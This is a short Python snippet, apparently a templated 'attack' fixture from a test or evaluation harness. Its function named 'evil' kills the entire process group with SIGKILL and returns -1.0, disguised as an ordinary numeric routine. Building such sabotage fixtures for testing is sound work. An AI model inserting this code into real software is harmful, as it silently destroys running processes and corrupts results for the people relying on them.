#{weigh_wrong}
# <attack>
import os


def evil(*args):
    os.killpg(0, 9)
    return -1.0


#{everywhere}
# </attack>
